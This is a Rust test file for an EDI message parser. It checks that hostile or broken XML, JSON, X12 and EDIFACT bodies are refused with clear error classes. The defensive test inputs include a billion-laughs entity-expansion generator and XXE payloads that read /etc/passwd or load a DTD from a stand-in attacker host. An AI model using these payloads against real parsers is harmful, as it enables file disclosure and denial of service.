//! Hostile and broken bodies through the public entry point: each is refused
//! with the right class and a message a sender can act on, and none of them
//! expands an entity, reads a file or overflows the stack.

mod common;

use common::fixture;
use edihub_core::{CoreError, ErrorClass, parse_body};

fn refuse(body: &[u8], content_type: Option<&str>) -> CoreError {
    match parse_body(body, content_type) {
        Ok(parsed) => panic!("accepted: {parsed:?}"),
        Err(e) => e,
    }
}

#[test]
fn billion_laughs_is_refused_before_any_expansion() {
    let mut doc = String::from("<?xml version=\"1.0\"?>\n<!DOCTYPE lolz [\n <!ENTITY lol \"lol\">\n");
    for i in 1..10 {
        let prev = if i == 1 { "lol".to_string() } else { format!("lol{}", i - 1) };
        doc.push_str(&format!(" <!ENTITY lol{i} \"{}\">\n", format!("&{prev};").repeat(10)));
    }
    doc.push_str("]>\n<ORDERS05><IDOC><EDI_DC40><DOCNUM>&lol9;</DOCNUM></EDI_DC40></IDOC></ORDERS05>");
    let err = refuse(doc.as_bytes(), Some("application/xml"));
    assert_eq!(err, CoreError::Doctype);
    assert_eq!(err.class(), ErrorClass::Malformed);
    assert_eq!(err.to_string(), "a DOCTYPE is not allowed (entities are never expanded)");
}

#[test]
fn xxe_variants_are_refused() {
    let cases = [
        "<!DOCTYPE r [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]><r>&xxe;</r>",
        "<!DOCTYPE r [<!ENTITY % p SYSTEM \"http://attacker.example/x.dtd\"> %p;]><r/>",
        "<!DOCTYPE r SYSTEM \"http://attacker.example/x.dtd\"><r/>",
        "<?xml version=\"1.0\"?><!-- c --><!DOCTYPE r PUBLIC \"-//X//Y\" \"x.dtd\"><r/>",
    ];
    for doc in cases {
        assert_eq!(refuse(doc.as_bytes(), None), CoreError::Doctype, "{doc}");
    }
    let err = refuse(b"<ORDERS05><IDOC>&xxe;</IDOC></ORDERS05>", None);
    assert_eq!(err.to_string(), "undefined entity &xxe;");
    assert_eq!(err.class(), ErrorClass::Malformed);
}

#[test]
fn deep_xml_is_refused_without_stack_overflow() {
    let open = "<E1>".repeat(100_000);
    let close = "</E1>".repeat(100_000);
    let body = format!("<ORDERS05><IDOC>{open}{close}</IDOC></ORDERS05>");
    let err = refuse(body.as_bytes(), Some("application/xml"));
    assert_eq!(err.to_string(), "XML nesting deeper than 256");
    assert_eq!(err.class(), ErrorClass::Malformed);
}

#[test]
fn deep_json_is_refused_without_stack_overflow() {
    for body in [
        "[".repeat(100_000),
        "{\"a\":".repeat(100_000),
        format!("{{\"ORDERS05\":{}", "{\"IDOC\":".repeat(100_000)),
    ] {
        let err = refuse(body.as_bytes(), Some("application/json"));
        assert_eq!(err.to_string(), "JSON nesting deeper than 128");
        assert_eq!(err.class(), ErrorClass::Malformed);
    }
}

#[test]
fn every_truncation_of_the_reference_order_is_refused() {
    let full = fixture("orders05.xml");
    let end = full.iter().rposition(|b| *b == b'>').unwrap();
    for cut in (1..end).step_by(7) {
        let err = refuse(&full[..cut], Some("application/xml"));
        assert_eq!(err.class(), ErrorClass::Malformed, "cut at {cut}: {err}");
    }
    let cut = String::from_utf8(full.clone()).unwrap().find("</E1EDK01>").unwrap();
    assert_eq!(refuse(&full[..cut], None).to_string(), "XML is truncated: element <E1EDK01> is not closed");
}

#[test]
fn every_truncation_of_the_json_order_is_refused() {
    let full = fixture("orders05.json");
    for cut in (1..full.len() - 2).step_by(11) {
        // Cutting inside a multi-byte character gives invalid UTF-8; anything
        // else is invalid JSON. Both are malformed.
        let err = refuse(&full[..cut], Some("application/json"));
        assert_eq!(err.class(), ErrorClass::Malformed, "cut at {cut}: {err}");
    }
    let err = refuse(&full[..100], None);
    assert!(err.to_string().starts_with("invalid JSON: EOF while parsing"), "{err}");
    assert!(err.to_string().contains("line"), "{err}");
}

#[test]
fn truncated_utf16_is_refused() {
    let full = fixture("orders05-utf16.xml");
    let err = refuse(&full[..full.len() - 1], None);
    assert_eq!(err.class(), ErrorClass::Malformed);
    assert!(err.to_string().starts_with("invalid UTF-16LE at byte"), "{err}");
}

#[test]
fn latin1_bytes_without_a_declaration_are_invalid_utf8() {
    let latin1 = String::from_utf8_lossy(&fixture("orders05-latin1.xml")).into_owned();
    assert!(latin1.contains("ISO-8859-1"));
    let mut body = fixture("orders05-latin1.xml");
    let decl_end = body.iter().position(|b| *b == b'\n').unwrap() + 1;
    body.drain(..decl_end);
    let err = refuse(&body, Some("application/xml"));
    assert!(matches!(err, CoreError::InvalidText { encoding: "UTF-8", .. }), "{err}");
    // ... and fine once the charset says what they are.
    assert!(parse_body(&body, Some("application/xml; charset=ISO-8859-1")).is_ok());
}

#[test]
fn structural_errors_have_their_classes() {
    let cases: &[(&[u8], Option<&str>, ErrorClass, &str)] = &[
        (b"", None, ErrorClass::Malformed, "the body is empty"),
        (b"  \n", Some("application/json"), ErrorClass::Malformed, "the body is empty"),
        (b"<A/>", Some("image/png"), ErrorClass::Unsupported, "unsupported content type image/png"),
        (
            b"a=1&b=2",
            Some("application/x-www-form-urlencoded"),
            ErrorClass::Unsupported,
            "unsupported content type application/x-www-form-urlencoded",
        ),
        (b"<A/><B/>", None, ErrorClass::Malformed, "more than one root element: <B> after <A>"),
        (b"<A></B>", None, ErrorClass::Malformed, "mismatched end tag: expected </A>, found </B>"),
        (b"<A/>tail", None, ErrorClass::Malformed, "text outside the root element"),
        (b"<ORDERS05/>", None, ErrorClass::Unusable, "no IDOC element under <ORDERS05>"),
        (b"<X><IDOC/></X>", None, ErrorClass::Unusable, "IDoc 1 of 1 has no control record EDI_DC40"),
        (b"[1]", None, ErrorClass::Unusable, "a plain JSON message must be an object"),
        (b"{\"idempotencyKey\":1}", None, ErrorClass::Malformed, "idempotencyKey must be a string"),
        (
            b"<?xml version=\"1.0\" encoding=\"klingon\"?><A/>",
            None,
            ErrorClass::Malformed,
            "unknown encoding `klingon`",
        ),
    ];
    for (body, ct, class, message) in cases {
        let err = refuse(body, *ct);
        assert_eq!((err.class(), err.to_string().as_str()), (*class, *message));
    }
}

/// An X12 delimiter that is a letter, a digit or a space, or an EDIFACT
/// separator that is a letter or digit, is refused (400) with no
/// acknowledgement of the refusal: tags and codes are letters and digits
/// and an ISA pads its fields with spaces, so such a delimiter splits them,
/// and a 997, TA1 or CONTRL written with the partner's delimiters would not
/// read back. The `edi` fuzz target found both X12 cases (RELIABILITY.md,
/// F-2): ISAs whose segment terminator was `T` or a space were refused for
/// a later syntax error, and their TA1s were not interchanges.
#[test]
fn letters_digits_and_spaces_as_edi_delimiters_are_refused() {
    let isa = |isa11: char, isa12: &str, terminator: char| {
        format!(
            "ISA*00*          *00*          *ZZ*SENDER         *ZZ*RECEIVER       *240101*1200*{isa11}*{isa12}*\
             000000001*0*P*>{terminator}GS*PO*SENDER*RECEIVER*20240101*1200*1*X*004010{terminator}\
             ST*850*0001{terminator}BEG*00*NE*PO-1{terminator}SE*3*0001{terminator}GE*1*1{terminator}\
             IEA*1*000000001{terminator}"
        )
    };
    let edifact = |una: &str| {
        let [c, e, _, _, _, s] = <[u8; 6]>::try_from(una.as_bytes()).expect("six characters").map(char::from);
        format!(
            "UNA{una}UNB{e}UNOC{c}3{e}SENDER{e}RECEIVER{e}240101{c}1200{e}IC1{s}UNH{e}M1{e}ORDERS{c}D{c}96A{c}UN{s}\
             BGM{e}220{e}PO-1{s}UNT{e}3{e}M1{s}UNZ{e}1{e}IC1{s}"
        )
    };
    let (x12, edi) = ("application/EDI-X12", "application/EDIFACT");
    let (x12_says, edi_says) = ("a letter, digit or space", "UNA names a letter or digit");
    let cases: [(&str, Vec<u8>, &str, &str); 7] = [
        ("fuzz minimised, T", fixture("../bad/fuzz-x12-letter-terminator.x12"), x12, x12_says),
        ("fuzz minimised, space", fixture("../bad/fuzz-x12-space-terminator.x12"), x12, x12_says),
        ("X12 terminator T", isa('U', "00401", 'T').into_bytes(), x12, x12_says),
        ("X12 terminator 7", isa('U', "00401", '7').into_bytes(), x12, x12_says),
        ("X12 terminator space", isa('U', "00401", ' ').into_bytes(), x12, x12_says),
        ("EDIFACT terminator U", edifact(":+.? U").into_bytes(), edi, edi_says),
        ("EDIFACT element separator 5", edifact(":5.? '").into_bytes(), edi, edi_says),
    ];
    for (what, body, content_type, says) in cases {
        let err = refuse(&body, Some(content_type));
        assert_eq!(err.class(), ErrorClass::Malformed, "{what}: {err}");
        assert!(err.to_string().contains(says), "{what}: {err}");
        assert_eq!(edihub_core::refusal(&body, Some(content_type)), None, "{what}: no acknowledgement");
    }
    // Other whitespace stays a terminator (one segment per line), a letter in
    // ISA11 is no repetition separator, even from 00402 on (the fuzz target's
    // third find: a TA1 answering ISA12 `800>401` says `U*800`), and the same
    // interchanges with proper delimiters are read.
    for (what, body, content_type) in [
        ("X12 newline terminator", isa('U', "00401", '\n'), x12),
        ("X12 00501 ISA11 U", isa('U', "00501", '~'), x12),
        ("X12 ISA12 00800 ISA11 U", isa('U', "00800", '~'), x12),
        ("X12 00501 repetition ^", isa('^', "00501", '~'), x12),
        ("EDIFACT default separators", edifact(":+.? '"), edi),
    ] {
        let parsed =
            parse_body(body.as_bytes(), Some(content_type)).unwrap_or_else(|e| panic!("{what}: {e}"));
        assert_eq!(parsed.documents.len(), 1, "{what}");
    }
}

/// The acknowledgement of an X12 refusal reads back whatever ISA12 says:
/// the `edi` fuzz target found (RELIABILITY.md, F-2) that an ISA12 of
/// `800>401` is answered with ISA12 `800` and ISA11 `U`, which read back
/// as version 800 with a letter for repetition separator once such
/// separators were refused; a letter in ISA11 is no separator. Seven
/// characters, that ISA12 is refused for its width (TA1 note 017), and the
/// TA1's own ISA keeps every field at its width (`800` padded to five).
#[test]
fn refusals_with_odd_isa_versions_are_acknowledged_readably() {
    let body = "ISA*00*          *00*          *ZZ*SENDER         *ZZ*RECEIVER       *240101*1200*U*800>401*\
                000000001*0*P*>~GS*PO";
    let refused = edihub_core::refusal(body.as_bytes(), None).expect("the ISA is read");
    let at = edihub_core::AckTime { year: 2026, month: 1, day: 2, hour: 3, minute: 4 };
    for kind in [edihub_core::AckKind::X12Functional, edihub_core::AckKind::X12Implementation] {
        let ack = edihub_core::acknowledge_refusal(&refused, kind, 9, at).expect("an X12 acknowledgement");
        let err = refuse(&ack, None);
        assert!(err.to_string().contains("holds no message"), "a TA1 alone, read back: {err}");
        let text = String::from_utf8(ack).expect("ASCII");
        assert!(
            text.contains("*U*800  *000000009*") && text.contains("~TA1*000000001*240101*1200*R*017~"),
            "{text}"
        );
    }
}
